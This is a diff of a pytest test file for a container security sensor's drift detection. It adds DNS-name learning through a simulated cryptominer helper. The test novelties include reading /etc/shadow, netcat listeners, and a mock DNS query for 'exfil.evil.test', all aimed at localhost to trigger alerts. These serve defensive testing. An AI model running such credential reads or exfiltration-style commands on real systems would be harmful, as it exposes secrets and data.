@@ -15,6 +15,7 @@ import pytest
 
 import drift_workloads
 from alerts import Match, describe_all
+from cryptomining_behaviours import MINER_SIM, miner_files
 from receivers.kube_api import KubeApiReceiver, pod_object
 from sensor import Sensor
 from vigil_binary import run_vigil
@@ -24,9 +25,11 @@ PROFILE = "shop/Deployment/web/c0"
 # Stable after 3 s of learning and then 2 s with nothing new.
 DRIFT_OPTIONS = {"learning_min_s": 3, "learning_quiet_s": 2, "learning_max_s": 60, "relearn_s": 6,
                  "metadata_wait_s": 3, "save_interval_s": 1}
-# What the workload does, again and again: an exec, a write, a sensitive read, a listen and a connect.
+# What the workload does, again and again: an exec, a write, a sensitive read, a listen, a connect,
+# and DNS queries (miner_sim's, by sendto and by send on a socket connected to :53; nothing answers).
 ROUTINE = ("cat /etc/hostname >/dev/null; echo data >/tmp/data; "
-           "(nc -l -p 8080 >/dev/null 2>&1 &); sleep 0.2; echo hi | nc 127.0.0.1 8080 >/dev/null 2>&1; true")
+           "(nc -l -p 8080 >/dev/null 2>&1 &); sleep 0.2; echo hi | nc 127.0.0.1 8080 >/dev/null 2>&1; "
+           f"{MINER_SIM} dns sendto 127.0.0.1 api.shop.test; {MINER_SIM} dns send 127.0.0.1 db.shop.test; true")
 
 
 @pytest.fixture(scope="module")
@@ -55,9 +58,22 @@ def start_sensor(build_dir, workdir, kube_api, state_directory, **options):
     return sensor
 
 
-def replica(container_factory, kube_api, template_hash="1111"):
-    """A container reported as a replica of Deployment web at @template_hash."""
-    container = container_factory()
+@pytest.fixture(scope="module")
+def drift_rootfs(rootfs, build_dir, tmp_path_factory):
+    """busybox and miner_sim, whose DNS queries the routine makes: part of the image."""
+    return rootfs.with_files(tmp_path_factory.mktemp("drift-rootfs") / "root", miner_files(build_dir))
+
+
+@pytest.fixture
+def replica(container_factory, kube_api, drift_rootfs):
+    """replica(template_hash="1111"): a container reported as a replica of Deployment web at @template_hash."""
+    def make(template_hash="1111"):
+        return _replica(container_factory, kube_api, drift_rootfs, template_hash)
+    return make
+
+
+def _replica(container_factory, kube_api, drift_rootfs, template_hash):
+    container = container_factory(rootfs=drift_rootfs)
     kube_api.add_pod(pod_object(f"web-{template_hash}-{secrets.token_hex(2)}", "shop", container.pod_uid, NODE,
                                 container_ids=[container.id],
                                 labels={"app": "web", "pod-template-hash": template_hash},
@@ -98,14 +114,14 @@ def drift_alerts(sensor, since=0):
     return [alert for alert in sensor.alerts(since) if alert["rule"].startswith("drift.")]
 
 
-LEARNED = ("executables", "files", "connections", "listening")
+LEARNED = ("executables", "files", "connections", "listening", "dns")
 
 
-def test_learns_then_alerts_on_each_class_of_novelty(build_dir, tmp_path, kube_api, container_factory):
+def test_learns_then_alerts_on_each_class_of_novelty(build_dir, tmp_path, kube_api, replica):
     state = tmp_path / "state"
     sensor = start_sensor(build_dir, tmp_path / "sensor", kube_api, state)
     try:
-        container = replica(container_factory, kube_api)
+        container = replica()
         for _ in range(3):
             routine(container)
             time.sleep(0.5)
@@ -136,6 +152,7 @@ def test_learns_then_alerts_on_each_class_of_novelty(build_dir, tmp_path, kube_a
             ("drift.new_sensitive_read", ["sh", "-c", "read line </etc/shadow; true"]),
             ("drift.new_listening_port", ["sh", "-c", "(nc -l -p 9090 >/dev/null 2>&1 &); sleep 0.2; true"]),
             ("drift.new_connection", ["sh", "-c", "echo hi | nc 127.0.0.2 8080 >/dev/null 2>&1; true"]),
+            ("drift.new_dns_name", ["sh", "-c", f"{MINER_SIM} dns sendmsg 127.0.0.1 exfil.evil.test; true"]),
         ]
         for rule, command in novelties:
             mark = sensor.alert_count()
@@ -150,10 +167,10 @@ def test_learns_then_alerts_on_each_class_of_novelty(build_dir, tmp_path, kube_a
         sensor.stop()
 
 
-def test_dropped_binary_alerts_while_learning(build_dir, tmp_path, kube_api, container_factory):
+def test_dropped_binary_alerts_while_learning(build_dir, tmp_path, kube_api, replica):
     sensor = start_sensor(build_dir, tmp_path / "sensor", kube_api, tmp_path / "state")
     try:
-        container = replica(container_factory, kube_api)
+        container = replica()
         routine(container)
         mark = sensor.alert_count()
         container.exec(["sh", "-c", "cp /bin/busybox /tmp/tool && /tmp/tool true"])
@@ -167,11 +184,11 @@ def test_dropped_binary_alerts_while_learning(build_dir, tmp_path, kube_api, con
         sensor.stop()
 
 
-def test_restart_keeps_the_profile_and_reset_import_restore_it(build_dir, tmp_path, kube_api, container_factory):
+def test_restart_keeps_the_profile_and_reset_import_restore_it(build_dir, tmp_path, kube_api, replica):
     state = tmp_path / "state"
     sensor = start_sensor(build_dir, tmp_path / "sensor-1", kube_api, state)
     try:
-        container = replica(container_factory, kube_api)
+        container = replica()
         deadline = time.monotonic() + 30
         while True:
             routine(container)
@@ -187,7 +204,7 @@ def test_restart_keeps_the_profile_and_reset_import_restore_it(build_dir, tmp_pa
     # A new sensor on the same state directory: stable at once, and the routine raises nothing.
     sensor = start_sensor(build_dir, tmp_path / "sensor-2", kube_api, state)
     try:
-        container = replica(container_factory, kube_api)
+        container = replica()
         for _ in range(2):
             routine(container)
         sensor.assert_no_alert(Match(plugin="drift"), settle=2.0)
@@ -210,12 +227,12 @@ def test_restart_keeps_the_profile_and_reset_import_restore_it(build_dir, tmp_pa
                                                  if p["key"] == PROFILE}["1111"]["classes"]
 
 
-def test_a_class_growing_past_its_cap_is_unstable_and_says_so(build_dir, tmp_path, kube_api, container_factory):
+def test_a_class_growing_past_its_cap_is_unstable_and_says_so(build_dir, tmp_path, kube_api, replica):
     state = tmp_path / "state"
     sensor = start_sensor(build_dir, tmp_path / "sensor", kube_api, state, max_entries_per_class=5,
                           learning_max_s=6)
     try:
-        container = replica(container_factory, kube_api)
+        container = replica()
         applets = ["uname", "id", "date", "hostname", "whoami", "true", "pwd", "env", "ls"]
         deadline = time.monotonic() + 30
         while True:
@@ -244,16 +261,15 @@ def learn_until_stable(build_dir, state, sensor, container, version="1111", time
         time.sleep(1)
 
 
-def test_a_rollout_relearns_without_alerting_but_still_sees_dropped_binaries(build_dir, tmp_path, kube_api,
-                                                                             container_factory):
+def test_a_rollout_relearns_without_alerting_but_still_sees_dropped_binaries(build_dir, tmp_path, kube_api, replica):
     state = tmp_path / "state"
     sensor = start_sensor(build_dir, tmp_path / "sensor", kube_api, state)
     try:
-        old = replica(container_factory, kube_api, "1111")
+        old = replica("1111")
         learn_until_stable(build_dir, state, sensor, old)
 
         # The new version does what the old one did, and something new and benign: no drift alert.
-        new = replica(container_factory, kube_api, "2222")
+        new = replica("2222")
         mark = sensor.alert_count()
         routine(new)
         new.exec(["date"])
@@ -287,13 +303,13 @@ def test_a_rollout_relearns_without_alerting_but_still_sees_dropped_binaries(bui
         sensor.stop()
 
 
-def test_a_benign_soak_raises_nothing_once_stable(build_dir, tmp_path, kube_api, container_factory):
+def test_a_benign_soak_raises_nothing_once_stable(build_dir, tmp_path, kube_api, replica):
     """A web server under load, a file loop with ever new names and a periodic job: learned
     within seconds, then several learning cycles' worth of the same raise no drift alert."""
     state = tmp_path / "state"
     sensor = start_sensor(build_dir, tmp_path / "sensor", kube_api, state)
     try:
-        container = replica(container_factory, kube_api)
+        container = replica()
         drift_workloads.start_benign(container)
         deadline = time.monotonic() + 40
         while True:
